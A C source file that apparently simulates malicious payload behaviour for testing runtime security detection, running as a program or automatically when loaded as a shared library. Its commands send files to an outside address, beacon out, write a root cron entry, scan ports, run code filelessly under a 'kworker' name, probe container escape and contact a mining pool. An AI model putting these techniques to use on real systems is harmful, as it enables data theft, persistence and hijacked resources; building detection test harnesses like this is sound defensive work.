/* What a payload does inside a process: the same source is a shared object (runs when it is loaded) and a program.
 * The order is patched into the text below, or is argv[1]. Bounded: everything is over in seconds and touches only its own
 * container. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

volatile char order[512] = "@@ORDER@@";

static int dial(const char *address, int port) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, address, &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr *)&to, sizeof to)) { close(fd); return -1; }
  return fd;
}

static void copy(const char *from, int to) {
  char data[4096];
  int fd = open(from, O_RDONLY);
  ssize_t n;
  if (fd < 0) return;
  while ((n = read(fd, data, sizeof data)) > 0)
    if (to >= 0 && write(to, data, n) < 0) break;
  close(fd);
}

static void burn(int seconds) {
  time_t end = time(0) + seconds;
  volatile unsigned long x = 1;
  while (time(0) < end)
    for (int i = 0; i < 1000000; i++) x = x * 6364136223846793005UL + 1;
}

static void run(const char *text) {
  char what[512];
  snprintf(what, sizeof what, "%s", text);
  char *argument = strchr(what, ' ');
  if (argument) *argument++ = 0;
  else argument = "";
  if (!strcmp(what, "sh")) {
    pid_t child = fork();
    if (!child) { execl("/bin/sh", "sh", "-c", argument, (char *)0); _exit(127); }
    waitpid(child, 0, 0);
  } else if (!strcmp(what, "beacon")) {
    int fd = dial("203.0.113.66", 443);
    if (fd >= 0) { dprintf(fd, "hello\n"); sleep(1); close(fd); }
  } else if (!strcmp(what, "send")) {
    int fd = dial("203.0.113.66", 8443);
    copy(argument, fd);
    if (fd >= 0) close(fd);
  } else if (!strcmp(what, "read")) {
    copy(argument, -1);
  } else if (!strcmp(what, "write")) {
    int fd = open(argument, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) { dprintf(fd, "* * * * * root /tmp/.x\n"); close(fd); }
  } else if (!strcmp(what, "scan")) {
    char address[32];
    for (int i = 1; i < 40; i++) {
      snprintf(address, sizeof address, "10.88.0.%d", i);
      int fd = dial(address, 22);
      if (fd >= 0) close(fd);
      fd = dial(address, 445);
      if (fd >= 0) close(fd);
    }
  } else if (!strcmp(what, "listen")) {
    int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(31337)};
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (!bind(fd, (struct sockaddr *)&at, sizeof at)) listen(fd, 1);
    sleep(1);
    close(fd);
  } else if (!strcmp(what, "memfd")) {
    int fd = memfd_create("x", MFD_CLOEXEC);
    copy(*argument ? argument : "/bin/true", fd);
    pid_t child = fork();
    if (!child) { char *argv[] = {"kworker/0:1", "1", 0}, *envp[] = {0}; fexecve(fd, argv, envp); _exit(127); }
    waitpid(child, 0, 0);
    close(fd);
  } else if (!strcmp(what, "ptrace")) {
    pid_t child = fork();
    if (!child) { sleep(2); _exit(0); }
    ptrace(PTRACE_ATTACH, child, 0, 0);
    waitpid(child, 0, 0);
    ptrace(PTRACE_DETACH, child, 0, 0);
    waitpid(child, 0, 0);
  } else if (!strcmp(what, "raw")) {
    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
    if (fd < 0) fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd >= 0) close(fd);
  } else if (!strcmp(what, "escape")) {
    unshare(CLONE_NEWUSER | CLONE_NEWNS);
    mount("none", "/mnt", "tmpfs", 0, 0);
    umount("/mnt");
    int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
    if (fd >= 0) close(fd);
  } else if (!strcmp(what, "code")) {
    void *at = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memset(at, 0xc3, 64);
    mprotect(at, 4096, PROT_READ | PROT_EXEC);
    ((void (*)(void))at)();
    munmap(at, 4096);
  } else if (!strcmp(what, "burn")) {
    burn(*argument ? atoi(argument) : 25);
  } else if (!strcmp(what, "hog")) {
    size_t size = 300UL << 20;
    char *at = malloc(size);
    if (at) { memset(at, 1, size); sleep(14); free(at); }
  } else if (!strcmp(what, "mine")) {
    int fd = dial("203.0.113.77", 3333);
    if (fd >= 0) dprintf(fd, "{\"method\":\"mining.subscribe\"}\n");
    burn(25);
  }
}

#ifdef PROGRAM
int main(int count, char **words) {
  run(count > 1 ? words[1] : (const char *)order);
  return 0;
}
#else
__attribute__((constructor)) static void begin(void) { run((const char *)order); }
#endif
